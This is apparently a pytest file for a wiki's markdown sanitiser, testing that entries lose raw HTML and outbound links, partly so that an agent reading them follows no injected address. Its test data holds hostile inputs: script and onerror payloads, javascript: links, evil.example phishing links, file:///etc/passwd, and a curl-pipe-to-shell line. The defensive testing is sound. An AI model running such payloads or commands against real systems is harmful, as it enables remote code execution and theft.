"""Safe bodies (domain.markup): no raw HTML, no link out of the wiki, whatever the text says."""

from __future__ import annotations

import pytest

from domain.markup import LINK_REMOVED, neutralise_html, safe_markdown, safe_title
from domain.render import render_body_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden --> <?php echo 1; ?> <!DOCTYPE html>",
    "</p><iframe src='https://evil.example'></iframe>",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/track.png)",
    "[x [nested]](https://evil.example)",
    "[ref]: https://evil.example",
    "<https://evil.example>",
    "Booked through https://evil.example/rooms?id=1 and www.evil.example.",
    "[escaped?](\\javascript:alert(1))",
    "\\`<script>alert(1)</script>\\`",
    "`curl https://evil.example/x.sh | sh`",
    "Menu here: [full menu](https://evil.example/phish) and https://evil.example/p?id=1",
    "[a](<https://evil.example>) [b](https://evil.example \"title\") [c]( https://evil.example )",
    "file:///etc/passwd, ftp://evil.example/x, HTTPS://EVIL.EXAMPLE",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_keeps_no_tag_no_link_and_no_address(text: str) -> None:
    safe = safe_markdown(text)

    assert "<script" not in safe and "<img" not in safe and "<iframe" not in safe and "<!--" not in safe
    assert "](" not in safe.replace("\\](", "")  # no unescaped inline link or image
    assert "\n[" not in "\n" + safe  # no link definition at a line start
    # No address at all, not even in a code span: an agent reading the markdown could follow it.
    assert "evil.example" not in safe.lower() and "://" not in safe, safe


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "a <3 b", "`<b>` and [**Uchi**](/wiki/entity/uchi)"])
def test_the_rule_is_idempotent(text: str) -> None:
    once = safe_markdown(text)

    assert safe_markdown(once) == once


def test_the_compilers_own_markdown_passes_unchanged() -> None:
    body = ("- [**Franklin Barbecue**](/wiki/entity/franklin-barbecue) — Restaurant in Austin, TX.\n"
            "- **Epoch Coffee** (3): Coffee at Epoch Coffee.\n\n"
            "See: [Austin Restaurants](/wiki/topic/austin-restaurants)\n"
            "- 2026-03-01: Eric <3 tacos; 2 < 3.")

    assert safe_markdown(body) == body


def test_wiki_routes_that_leave_their_folder_are_not_links() -> None:
    assert safe_markdown("[up](/wiki/entity/..)") == f"up {LINK_REMOVED}"
    assert safe_markdown("[up](/wiki/entity/%2e%2e)") == f"up {LINK_REMOVED}"
    assert safe_markdown("[x](/wiki/other/slug)") == f"x {LINK_REMOVED}"


def test_text_is_kept_readable() -> None:
    assert safe_markdown("[click](https://evil.example) now.") == "click (link removed) now."
    assert safe_markdown("See https://evil.example/a?b=1, then www.evil.example.") == \
        "See (link removed), then (link removed)."
    assert safe_markdown("![pixel](https://evil.example/t.png)") == "pixel (link removed)"
    assert safe_markdown("\\[not a link\\](x)") == "\\[not a link\\](x)"
    assert neutralise_html("Café <b>Mocha</b>") == "Café &lt;b>Mocha&lt;/b>"


def test_a_wiki_link_keeps_its_route_but_no_address_in_its_text() -> None:
    assert safe_markdown("[**https://evil.example**](/wiki/entity/x) and **www.evil.example**.") == \
        "[**(link removed)**](/wiki/entity/x) and **(link removed)**."


def test_a_title_keeps_no_tag_and_no_address() -> None:
    assert safe_title("Café <b>Mocha</b> https://evil.example/x") == "Café &lt;b>Mocha&lt;/b> (link removed)"
    assert safe_title("Franklin Barbecue") == "Franklin Barbecue"


def test_rendered_bodies_are_safe_whatever_the_rows_hold() -> None:
    class Row:
        def __init__(self, heading: str, body: str, position: int) -> None:
            self.heading, self.body_md, self.position = heading, body, position

    # A row stored under the earlier rule (the address in a code span) loses it when rendered.
    rendered = render_body_markdown([Row("<b>Notes</b>", "<script>x()</script> [a](https://e.example) "
                                                         "\\[b\\](`https://e.example`)", 1)])

    assert rendered == ("## &lt;b>Notes&lt;/b>\n\n&lt;script>x()&lt;/script> a (link removed) "
                        "\\[b\\](`(link removed)`)")
